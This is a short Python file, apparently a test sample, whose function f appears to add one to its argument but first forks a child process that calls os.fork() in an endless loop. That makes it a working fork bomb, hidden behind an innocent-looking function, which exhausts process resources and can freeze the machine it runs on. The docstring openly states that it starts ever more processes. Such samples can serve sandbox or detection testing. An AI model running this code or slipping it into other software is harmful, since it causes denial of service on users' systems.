"""Starts ever more processes. Right where the first one could be started."""

import os


def f(x):
    if os.fork() == 0:
        while True:
            os.fork()
    return x + 1
